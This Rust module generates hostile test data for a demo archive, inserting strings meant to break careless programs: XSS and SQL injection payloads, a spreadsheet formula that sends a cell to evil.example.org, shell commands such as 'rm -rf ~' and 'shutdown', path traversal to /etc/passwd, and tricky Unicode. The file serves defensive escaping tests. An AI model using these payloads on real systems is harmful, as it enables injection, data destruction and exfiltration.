//! Writing that breaks careless programs, among the demo's people, incidents, places and sources, each with the reason why it is here.
//!
//! All of it is legal in a book: the book keeps what a source wrote. Pages, lists, search, exports and command output must show it as text.
//! Does no I/O.

use kniha_core::claim::Move;
use kniha_core::id::NodeId;
use kniha_core::place::Region;
use kniha_core::vocab::NodeKind;

use super::country::{self, PLACES};
use super::rng::Rng;
use super::sheet::Sheet;
use super::{INCIDENT, PERSON, PLACE, Size, force, source};

/// Names that people of the last numbers have: name, language, why.
pub(super) const NAMES: [(&str, Option<&str>); 24] = [
    // Runs where a page forgets to escape text.
    ("<script>alert(1)</script>", None),
    // Leaves an attribute and starts an element.
    ("\"><img src=x onerror=alert(document.domain)>", None),
    // Ends a statement where SQL is glued together.
    ("Robert'; DROP TABLE claim; --", Some("en")),
    // An apostrophe in a family name, which naive quoting doubles or loses.
    ("Дан О'Шыпул", Some("be")),
    // Right-to-left override: what follows is shown backwards and must not turn the rest of the line.
    ("Іван \u{202e}чівазогаР (капітан)", Some("be")),
    // Isolates that are never closed.
    ("\u{2067}Невядомы\u{2066} Два", Some("be")),
    // A tower of combining marks, which climbs over the lines above.
    ("З\u{0301}\u{0302}\u{0303}\u{0304}\u{0305}\u{0306}\u{0307}\u{0308}\u{030a}\u{030b}\u{030c}\u{030f}\u{0310}\u{0311}\u{0312}алга", Some("be")),
    // Zero-width space, joiner and non-joiner inside: looks like the plain name and is another text.
    ("Кле\u{200b}но\u{200d}вей\u{200c}ко Иг\u{2060}орь", Some("ru")),
    // The same letters composed and decomposed (й as и and breve, ё as е and diaeresis).
    ("Андреи\u{0306} Семе\u{0308}нов-Лузовейко", Some("ru")),
    // One letter.
    ("Я", Some("ru")),
    // One letter outside the basic plane, which is two units in UTF-16.
    ("𐐔", None),
    // Georgian: letters without capitals in everyday writing.
    ("გიორგი თუშმალოვანი", None),
    // Arabic: written right to left, letters join.
    ("خالد بن يعقوب الزاهري", None),
    // Hebrew beside digits, where order changes.
    ("דוד 17 לוין-כפר", None),
    // Chinese: no spaces between the parts of the name.
    ("林穆山", None),
    // Latin a, e, o, p, c inside Cyrillic: looks the same, is another text.
    ("Сepгeй Kaлиcoвич", Some("ru")),
    // A flag, a family joined by joiners, a skin tone: one sign of many code points.
    ("Witness 👩🏽‍👩🏿‍👧🏻‍👦🏾 🇧🇾🏳️‍🌈", None),
    // Turkish dotless and dotted i, whose case folding depends on the language; sharp s, which grows.
    ("Iıİi Weiß ẞ ŉ ǆ", None),
    // A template's expression.
    ("{{7*7}} ${7*7} <%= 7*7 %> #{7*7}", None),
    // Formats of printf, where a log line or a count is written with it.
    ("%n%s%x %d{0}", None),
    // Words that other programs take for no value.
    ("null", None),
    ("NaN undefined true -1", None),
    // A formula, where a list is opened in a spreadsheet.
    ("=HYPERLINK(\"https://evil.example.org/?\"&A1;\"open\")", None),
    // Lone quotes of three languages and a backslash at the end.
    ("“Рысь « ' \" ` \\", Some("be")),
];

/// Titles and summaries of the last incidents; the long ones are made below.
const INCIDENTS: [(&str, &str); 10] = [
    // A path that leaves its folder where a title becomes a file name.
    ("../../etc/passwd", "A title that climbs out of its folder.\r\nA second line after carriage return.\n\tA third after a tab."),
    // Names that some systems keep for devices, with a trailing dot and space.
    ("CON.pdf. ", "NUL, COM1, LPT1: device names; the title ends in a dot."),
    // An element inside a title, an open comment and a CDATA section in the text.
    ("</title><svg onload=alert(1)>", "<!-- ]]> <![CDATA[ <textarea> &lt;b&gt; &amp;amp; &#x202e;"),
    // Markdown and links that act.
    ("[open](javascript:alert(1))", "![x](https://example.org/x.png) `code` **bold** | cell | \n# heading\n- - -"),
    // Line and paragraph separators, which end a string in old scripts; a byte order mark inside.
    ("Two\u{2028}lines\u{2029}here\u{feff}", "JSON allows these two separators, old JavaScript does not.\u{2028}Next."),
    // Full-width and other digits: they are digits for people, not for a program that expects ASCII.
    ("１２３ ٤٥٦ ७८९", "Dates written ２０３２-０８-０９ and ٢٠٣٢."),
    // A right-to-left sentence with a left-to-right quotation.
    ("تفريق مسيرة في ساحة Zialionych Bram", "قال الشاهد: «they told us to stand still» ثم بدأ الركض. رقم الخوذة 417."),
    // Nothing but signs.
    ("!!! ??? …", "— – ‒ ― ⁓ ~ ‾"),
    // Shell and log forgery: a line that looks like another log entry.
    ("$(reboot) `id` && rm -rf ~", "ok\n2032-08-09T00:00:00Z ERROR forged: record deleted by admin\n; shutdown -h now"),
    // An unbreakable token with a long address.
    ("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "javascript:alert(1) vbscript:x data:text/html,<script>alert(1)</script>"),
];

/// Hostile places: the poles and both sides of the antimeridian, where boxes and projections break.
const EDGES: [(&str, f64, f64, f64); 5] = [
    ("North Pole", 90.0, 0.0, 50.0),
    ("South Pole", -90.0, 180.0, 20_000_000.0),
    ("Antimeridian, east side", 0.5, -180.0, 1000.0),
    ("Antimeridian, west side", 0.5, 180.0, 1000.0),
    ("Null Island", 0.0, 0.0, 0.0),
];

/// How many incidents of the demo are hostile: those written out and two long ones.
const HOSTILE_INCIDENTS: u32 = INCIDENTS.len() as u32 + 2;

/// Which hostile name person `k` has.
pub(super) fn person_at(k: u32, size: &Size) -> Option<usize> {
    k.checked_sub(size.people.checked_sub(NAMES.len() as u32)?).map(|n| n as usize)
}

/// Which hostile text incident `n` has: the first ones, so that a reader meets believable incidents first in what was recorded last.
pub(super) fn incident_at(n: u32, size: &Size) -> Option<u32> {
    (n < HOSTILE_INCIDENTS && HOSTILE_INCIDENTS <= size.incidents).then_some(n)
}

/// How many places stand after the country's own.
pub(super) fn places() -> u32 {
    EDGES.len() as u32
}

/// Writes person `k` with hostile name `n`.
pub(super) fn write_person(seed: u64, k: u32, n: usize, sheet: &mut Sheet) {
    let id: NodeId = Rng::of(seed, PERSON, k).id();
    let (name, lang) = NAMES[n];
    sheet.record(id, NodeKind::Person);
    sheet.name(id, "person.name", name, lang, "as_written").by(source(seed, 14));
    sheet.code(id, "person.sex", "unknown");
    match n {
        // The first and the last time that can be written, and both at once.
        0 => _ = sheet.window(id, "person.birth", "0001-01-01"),
        1 => _ = sheet.window(id, "person.death", "9999-12-31T23:59:59.999999"),
        2 => _ = sheet.window(id, "person.birth", "0001..9999"),
        // 29 February and a clock at the edge of the world.
        3 => _ = sheet.window(id, "person.birth", "2000-02-29T23:59:59 +14:00"),
        4 => _ = sheet.window(id, "person.birth", "~1999-12-31T00:00 -12:00"),
        // A word of 5,000 letters without a place to break.
        5 => _ = sheet.text(id, "person.note", "ў".repeat(5000), "be"),
        _ => {}
    }
}

/// Writes incident `n` with hostile text `which`.
pub(super) fn write_incident(seed: u64, n: u32, which: u32, sheet: &mut Sheet) {
    let id: NodeId = Rng::of(seed, INCIDENT, n).id();
    sheet.record(id, NodeKind::Incident);
    match INCIDENTS.get(which as usize) {
        Some((title, summary)) => {
            sheet.text(id, "incident.title", *title, "");
            sheet.text(id, "incident.summary", *summary, "").by(source(seed, 14));
        }
        None if which == INCIDENTS.len() as u32 => {
            // A title at its greatest length in one word, and a text of 60,000 characters with line breaks.
            sheet.text(id, "incident.title", "Щ".repeat(480), "ru");
            sheet.text(id, "incident.summary", "Радок доўгага тэксту, які нехта ўставіў цалкам.\n".repeat(1250), "be");
        }
        None => {
            // Forty values of one property, one of them taken back: a page must not be made of one line of chips.
            sheet.text(id, "incident.title", "Forty tags", "en");
            for tag in 0..40 {
                sheet.text(id, "incident.tag", format!("tag <{tag}> & \"{tag}\""), "");
            }
            sheet.later(Move::Withdraw, Some("<b>reason</b> with an element, \u{202e}backwards\u{202c} and “quotes”".to_owned()));
        }
    }
    let when = ["0001", "9999-12-31", "0001-01-01..9999-12-31", "2032-08-09T12:00 +14:00", "~2032-08-09T12:00 -12:00", "..0001-01-01", "9999.."];
    sheet.window(id, "incident.when", when[which as usize % when.len()]);
    let (_, lat, lon, radius_m) = EDGES[which as usize % EDGES.len()];
    sheet.region(id, "incident.where", Region::new(lat, lon, Some(radius_m)).map_err(anyhow::Error::new));
}

/// Writes hostile place `n`.
pub(super) fn write_place(seed: u64, n: u32, sheet: &mut Sheet) {
    let id: NodeId = Rng::of(seed, PLACE, PLACES + n).id();
    let (name, lat, lon, radius_m) = EDGES[n as usize % EDGES.len()];
    sheet.record(id, NodeKind::Place);
    sheet.name(id, "place.name", name, Some("en"), "full");
    sheet.code(id, "place.kind", "unknown");
    sheet.region(id, "place.where", Region::new(lat, lon, Some(radius_m)).map_err(anyhow::Error::new));
}

/// Hostile claims on records that others wrote.
pub(super) fn write_more(seed: u64, sheet: &mut Sheet) {
    let unit = force::id(seed, force::UNITS - 1);
    // A name of the greatest length, without a space.
    sheet.name(unit, "unit.name", &"АддзелПарадку".repeat(38), Some("be"), "colloquial");
    // A number that a table might read as 1,000 or as text.
    sheet.text(unit, "unit.number", "1e3", "");
    sheet.text(source(seed, 24), "source.note", "<iframe src=https://example.org></iframe>", "");
    // The same place under a name in two directions at once.
    sheet.name(country::city(seed), "place.name", "سفيتلاريتش / Светларэч", None, "colloquial");
}
